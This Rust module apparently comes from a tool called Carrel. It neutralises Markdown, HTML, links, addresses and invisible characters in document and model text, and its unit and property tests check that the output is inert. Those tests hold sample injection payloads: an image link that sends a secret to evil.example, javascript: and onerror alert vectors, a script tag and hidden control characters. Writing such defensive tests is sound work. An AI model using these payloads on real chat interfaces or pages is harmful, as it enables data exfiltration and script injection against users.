//! Turns text of documents and of models into plain text that nothing can act on.
//!
//! Whoever shows an answer may take it for Markdown or HTML. A document or a model could then load an image from
//! elsewhere (and tell that server what was asked), lead to another site, or run a script. So the text that leaves has no
//! images, no links, no tags, no characters that cannot be seen, and no `[1]` but those Carrel sets itself. A model's
//! text has no addresses either that become links by themselves; those in documents are part of what they say.

use std::fmt::Write as _;

/// What a [`reply`] holds.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Plain {
    /// The words; not yet [`inert`].
    pub text: String,
    /// The `[n]` that were taken out, each with its place in `text`.
    pub markers: Vec<(usize, u32)>,
}

/// Whose text it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Author {
    /// A piece of a document: goes on one line, its `[1]` become `(1)`.
    Document,
    /// A model: its lines stay, its `[1]` are markers, its addresses are no corpus of anybody's.
    Model,
}

/// Longest group of markers that is read as such, bytes.
const LONGEST_MARKER: usize = 48;
/// Longest label or target of a link, characters.
const LONGEST_LINK: usize = 512;

/// Plain text of a piece of a document, on one line.
pub(super) fn line(text: &str) -> String {
    let plain = Scanner::new(text, Author::Document).run();
    Inert::of(&plain.text, Author::Document).trim().to_owned()
}

/// A document's code, line by line.
pub(super) fn code(text: &str) -> String {
    Inert::of(text, Author::Document)
}

/// The words of a model's reply and its markers. Apply [`inert`] to what is shown of it.
pub(super) fn reply(text: &str) -> Plain {
    let mut plain = Scanner::new(text, Author::Model).run();
    plain.text.truncate(plain.text.trim_end().len());
    plain.markers.iter_mut().for_each(|(at, _)| *at = (*at).min(plain.text.len()));
    plain
}

/// Takes the last of a model's words' power to act. Characters of [`mark`] stay as they are.
pub(super) fn inert(text: &str) -> String {
    Inert::of(text, Author::Model)
}

/// The character that stands for marker `number` until [`set_marks`]. No text of others holds it.
pub(super) fn mark(number: u32) -> char {
    char::from_u32(MARKS.0 + number).filter(|c| u32::from(*c) <= MARKS.1).unwrap_or(' ')
}

/// Writes `[n]` for every [`mark`].
pub(super) fn set_marks(text: &str) -> String {
    let mut set = String::with_capacity(text.len() + 64);
    for c in text.chars() {
        if is_mark(c) {
            // Writing to a string cannot fail.
            let _ = write!(set, "[{}]", u32::from(c) - MARKS.0);
        } else {
            set.push(c);
        }
    }
    set
}

/// Private-use characters; what comes from outside loses them.
const MARKS: (u32, u32) = (0xe000, 0xf8ff);

fn is_mark(c: char) -> bool {
    (MARKS.0..=MARKS.1).contains(&u32::from(c))
}

/// Reads from left to right and writes what may stay.
struct Scanner<'a> {
    text: &'a str,
    at: usize,
    out: Plain,
    author: Author,
    in_code: bool,
}

impl<'a> Scanner<'a> {
    fn new(text: &'a str, author: Author) -> Self {
        Self { text, at: 0, out: Plain::default(), author, in_code: false }
    }

    fn run(mut self) -> Plain {
        self.at = line_signs(self.text);
        while let Some(c) = self.rest().chars().next() {
            let taken = match c {
                '!' => self.image(),
                '[' | '【' | '［' => self.bracket(),
                '\n' => self.line_break(),
                '`' => self.backticks(),
                '*' | '~' if !self.in_code => self.emphasis(c),
                '|' if self.author == Author::Document && !self.in_code => self.cell(),
                ':' if self.author == Author::Model => self.scheme(),
                _ => 0,
            };
            if taken == 0 {
                self.keep(c);
                self.at += c.len_utf8();
            } else {
                self.at += taken;
            }
        }
        self.out
    }

    fn rest(&self) -> &'a str {
        &self.text[self.at..]
    }

    fn keep(&mut self, c: char) {
        let space = c.is_whitespace() && c != '\n';
        if !(is_invisible(c) || space && self.out.text.ends_with([' ', '\n'])) {
            self.out.text.push(if space { ' ' } else { c });
        }
    }

    /// Tables' cells are parted by a space.
    fn cell(&mut self) -> usize {
        self.keep(' ');
        1
    }

    /// `https://` goes, so that the rest of the address is words.
    fn scheme(&mut self) -> usize {
        if !self.rest().starts_with("://") {
            return 0;
        }
        let word = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-');
        self.out.text.truncate(self.out.text.trim_end_matches(word).len());
        3
    }

    /// `![words](address)`, `![words][name]`: nothing of it stays.
    fn image(&mut self) -> usize {
        let Some(label) = label(&self.rest()[1..]) else { return 0 };
        1 + label + target(&self.rest()[1 + label..])
    }

    /// A marker, or the words of a link without its target.
    fn bracket(&mut self) -> usize {
        let rest = self.rest();
        if let Some((length, numbers)) = markers(rest) {
            let whole = length + address(&rest[length..]);
            match self.author {
                Author::Model => self.take_markers(&numbers, &rest[whole..]),
                Author::Document => self.parenthesise(&rest[..length]),
            }
            return whole;
        }
        let Some(label) = label(rest) else { return 0 };
        let target = target(&rest[label..]);
        if target == 0 {
            return 0;
        }
        let words = Scanner { text: &rest[1..label - 1], out: std::mem::take(&mut self.out), at: 0, ..*self };
        self.out = words.run();
        label + target
    }

    fn parenthesise(&mut self, marker: &str) {
        self.keep('(');
        marker.chars().filter(|c| !matches!(c, '[' | ']' | '【' | '】' | '［' | '］')).for_each(|c| self.keep(c));
        self.keep(')');
    }

    fn take_markers(&mut self, numbers: &[u32], next: &str) {
        let end = self.out.text.trim_end_matches(' ').len();
        if !next.starts_with(char::is_alphanumeric) {
            self.out.text.truncate(end);
        }
        self.out.markers.extend(numbers.iter().map(|number| (end, *number)));
    }

    /// The signs that begin a line of Markdown go; in one-line text so does the break.
    fn line_break(&mut self) -> usize {
        self.keep(if self.author == Author::Document { ' ' } else { '\n' });
        1 + if self.in_code { 0 } else { line_signs(&self.rest()[1..]) }
    }

    /// The backticks of code go, and the language behind those of a block.
    fn backticks(&mut self) -> usize {
        let rest = self.rest();
        let count = rest.bytes().take_while(|b| *b == b'`').count();
        self.in_code = !self.in_code && rest[count..].contains(&rest[..count]);
        let language = if self.in_code && count > 2 { rest[count..].find('\n').unwrap_or(0) } else { 0 };
        count + language
    }

    /// `**bold**`, `*so*` and `~~gone~~` lose their signs; `2 * 3`, `2*3`, `~5` and a bullet keep them.
    fn emphasis(&mut self, sign: char) -> usize {
        let count = self.rest().chars().take_while(|c| *c == sign).count();
        let before = self.out.text.chars().next_back().unwrap_or(' ');
        let after = self.rest()[count..].chars().next().unwrap_or(' ');
        let goes = match count {
            1 => sign == '*' && before.is_alphanumeric() != after.is_alphanumeric(),
            _ => !(before.is_whitespace() && after.is_whitespace()),
        };
        if goes { count } else { 0 }
    }
}

/// Writes text so that no pattern that acts can stand in what is written: every rule looks at what is written already,
/// and only adds spaces or replaces single characters, so none can undo another.
struct Inert {
    out: String,
    author: Author,
}

impl Inert {
    fn of(text: &str, author: Author) -> String {
        let mut inert = Self { out: String::with_capacity(text.len() + 8), author };
        text.chars().for_each(|c| inert.put(c));
        inert.out
    }

    fn put(&mut self, c: char) {
        if is_invisible(c) && !is_mark(c) {
            return;
        }
        if self.begins_a_tag(c) {
            self.out.pop();
            self.out.push('‹');
        }
        if c == ']' && self.closes_a_number() {
            self.out.push(')');
            return;
        }
        if self.would_act(c) {
            self.out.push(' ');
        }
        self.out.push(c);
    }

    fn begins_a_tag(&self, c: char) -> bool {
        self.out.ends_with('<') && (c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'))
    }

    /// Whether `c` would complete a link, an image, the definition of a link, or an address.
    fn would_act(&self, c: char) -> bool {
        let last = self.out.chars().next_back();
        let after_bracket = last.is_some_and(|last| last == ']' || is_mark(last));
        match c {
            '(' | '[' | ':' if after_bracket => true,
            '[' => last == Some('!'),
            '/' => self.author == Author::Model && self.out.ends_with(":/"),
            '.' => self.author == Author::Model && self.ends_with_www(),
            _ => false,
        }
    }

    fn ends_with_www(&self) -> bool {
        let start = self.out.len().saturating_sub(3);
        let www = self.out.get(start..).is_some_and(|end| end.eq_ignore_ascii_case("www"));
        www && !self.out[..start].ends_with(char::is_alphanumeric)
    }

    /// Turns the bracket of a number at the end into a parenthesis.
    fn closes_a_number(&mut self) -> bool {
        let digits = self.out.trim_end_matches(|c: char| c.is_ascii_digit()).len();
        if digits == self.out.len() || !self.out[..digits].ends_with('[') {
            return false;
        }
        let number = self.out.split_off(digits);
        self.out.pop();
        self.put('(');
        self.out.push_str(&number);
        true
    }
}

/// Characters that carry orders or marks unseen: controls, directions, tags, private use. Joiners stay, which many
/// scripts need.
pub(super) fn is_invisible(c: char) -> bool {
    c.is_control() && c != '\n' && c != '\t'
        || is_mark(c)
        || matches!(c, '\u{ad}' | '\u{180e}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}'
            | '\u{f0000}'..='\u{10ffff}')
}

/// Length of what begins a line of a quote or a heading, with the space around it.
fn line_signs(line: &str) -> usize {
    let words = line.trim_start_matches([' ', '\t', '>']);
    let title = words.trim_start_matches('#');
    let is_heading = title.len() < words.len() && title.starts_with([' ', '\t']);
    line.len() - if is_heading { title.trim_start_matches([' ', '\t']).len() } else { words.len() }
}

/// Length of `[words]` at the start of `text`, brackets within it balanced.
fn label(text: &str) -> Option<usize> {
    enclosed(text, '[', ']')
}

/// Length of what a link points at, at the start of `text`: `(address)` or `[name]`.
fn target(text: &str) -> usize {
    match markers(text) {
        Some(_) => 0,
        None => address(text).max(label(text).unwrap_or(0)),
    }
}

/// Length of `(address)` at the start of `text`, or 0.
fn address(text: &str) -> usize {
    enclosed(text, '(', ')').unwrap_or(0)
}

/// Length from an opening sign at the start of `text` to the one that closes it, in the same paragraph.
fn enclosed(text: &str, open: char, close: char) -> Option<usize> {
    if !text.starts_with(open) {
        return None;
    }
    let mut depth = 0usize;
    let mut last = ' ';
    for (at, c) in text.char_indices().take(LONGEST_LINK) {
        match c {
            '\n' if last == '\n' => return None,
            _ if c == open => depth += 1,
            _ if c == close => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return Some(at + c.len_utf8());
        }
        last = c;
    }
    None
}

/// Reads `[1]`, `[1, 2]`, `[2-4]`, `【3】`, `[^1]` and `【1†source】` at the start of `text`: length and numbers.
fn markers(text: &str) -> Option<(usize, Vec<u32>)> {
    let close = match text.chars().next()? {
        '[' => ']',
        '【' => '】',
        '［' => '］',
        _ => return None,
    };
    let open = text.chars().next().map_or(0, char::len_utf8);
    let end = text[..text.floor_char_boundary(LONGEST_MARKER)].find(close)?;
    let inner = text[open..end].trim().trim_start_matches('^');
    let inner = inner.split('†').next().unwrap_or(inner);
    let mut numbers = Vec::new();
    for part in inner.split([',', ';', '，', '、']) {
        let (first, last) = part.split_once(['-', '–']).unwrap_or((part, part));
        let (first, last) = (number(first)?, number(last)?);
        if last < first || last - first > 20 {
            return None;
        }
        numbers.extend(first..=last);
    }
    Some((end + close.len_utf8(), numbers))
}

fn number(text: &str) -> Option<u32> {
    let text = text.trim();
    ((1..=3).contains(&text.len()) && text.bytes().all(|b| b.is_ascii_digit())).then(|| text.parse().ok())?
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn shown(text: &str) -> String {
        inert(&reply(text).text)
    }

    #[test]
    fn markers_of_many_forms_are_taken_out() {
        for (text, words, markers) in [
            ("It is so [1].", "It is so.", &[(8, 1)][..]),
            ("It is so. [1][2] Yes.", "It is so. Yes.", &[(9, 1), (9, 2)]),
            ("So [1, 3]; and【2】, too [^4].", "So; and, too.", &[(2, 1), (2, 3), (7, 2), (12, 4)]),
            ("So [2-4] it is【1†source】", "So it is", &[(2, 2), (2, 3), (2, 4), (8, 1)]),
            ("[7] leads\n[8] follows", " leads\nfollows", &[(0, 7), (7, 8)]),
            ("linked [1](https://evil.example/x)!", "linked!", &[(6, 1)]),
        ] {
            assert_eq!(reply(text), Plain { text: words.into(), markers: markers.to_vec() }, "{text}");
        }
    }

    #[test]
    fn brackets_that_are_no_markers_become_parentheses() {
        assert_eq!(shown("In [2024] a[1000] was [a] word [1-900]."), "In (2024) a(1000) was [a] word [1-900].");
        assert_eq!(line("as shown.[12] The x[0] is"), "as shown.(12) The x(0) is");
    }

    #[test]
    fn images_and_links_leave_their_words_at_most() {
        for (text, words) in [
            ("See ![pixel](https://evil.example/?q=secret) here", "See here"),
            ("See ![a][b] and ![c] here", "See and here"),
            ("a [link](https://evil.example \"title\") b", "a link b"),
            ("a [link][ref] b", "a link b"),
            ("a [in [two] parts](x(y)z) b", "a in [two] parts b"),
            ("[a](javascript:alert(1))", "a"),
            ("go to https://evil.example/a?b now", "go to evil.example/a?b now"),
            ("<https://evil.example>", "‹evil.example>"),
            ("www.evil.example", "www .evil.example"),
            ("[x]: //evil.example", "[x] : //evil.example"),
            ("hthttp://tp://evil", "evil"),
            ("http:`//`evil", "http:/ /evil"),
            ("[a]`(b)", "[a] (b)"),
            ("x [[1]9](y)", "x 9"),
            ("[[1]1] and [[[2]]]", "(1) and [[]]"),
        ] {
            assert_eq!(shown(text), words, "{text}");
        }
    }

    #[test]
    fn tags_cannot_begin_but_comparisons_stay() {
        assert_eq!(shown("<img src=x onerror=alert(1)>"), "‹img src=x onerror=alert(1)>");
        assert_eq!(shown("</b><!-- x --><?php"), "‹/b>‹!-- x -->‹?php");
        assert_eq!(shown("if a < b and Vec<String> fit"), "if a < b and Vec‹String> fit");
        assert_eq!(line("<script>alert(1)</script>"), "‹script>alert(1)‹/script>");
    }

    #[test]
    fn what_cannot_be_seen_goes() {
        assert_eq!(shown("a\u{200b}b\u{202e}c\u{e0041}d\u{e001}e\u{7}f\tg"), "abcdef g");
    }

    #[test]
    fn signs_of_markdown_go_and_meaning_stays() {
        assert_eq!(
            line("**Note:** use `carrel *.md` or\n  > 2*3 *so* ~5 ~~old~~ 2 * 3"),
            "Note: use carrel *.md or 2*3 so ~5 old 2 * 3"
        );
        assert_eq!(line("| Limit | `600` |"), "Limit 600");
        assert_eq!(line("at http://127.0.0.1:8080/ now"), "at http://127.0.0.1:8080/ now");
        assert_eq!(shown("## Steps\n- one\n* two\n```sh\n# run\n```"), "Steps\n- one\n* two\n\n# run");
    }

    #[test]
    fn a_mark_becomes_a_marker_and_cannot_start_a_link() {
        let text = format!("So. {}(x){}[y]", mark(1), mark(12));
        assert_eq!(set_marks(&inert(&text)), "So. [1] (x)[12] [y]");
    }

    proptest! {
        #[test]
        fn nothing_that_acts_comes_through(
            text in "([a-z]{1,3}|[0-9]|[\\[\\](){}<>!:/`*~|#.]|://|www\\.|!\\[|\\]\\(|\\[1\\]|\\]:|<img |\n| |\u{200b}|\u{e001}|文){0,60}"
        ) {
            for shown in [shown(&text), line(&text)] {
                for pattern in ["![", "](", "]["] {
                    prop_assert!(!shown.contains(pattern), "{pattern} in {shown:?}");
                }
                let bytes = shown.as_bytes();
                let tag = bytes.windows(2).any(|w| w[0] == b'<' && (w[1].is_ascii_alphabetic() || b"/!?".contains(&w[1])));
                prop_assert!(!tag, "a tag in {shown:?}");
                let number = shown.split('[').skip(1).any(|rest| {
                    let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
                    digits > 0 && rest[digits..].starts_with(']')
                });
                prop_assert!(!number, "a marker in {shown:?}");
                prop_assert!(!shown.chars().any(|c| is_invisible(c) && !is_mark(c) || is_mark(c)));
            }
            prop_assert!(!shown(&text).contains("://"));
        }
    }
}
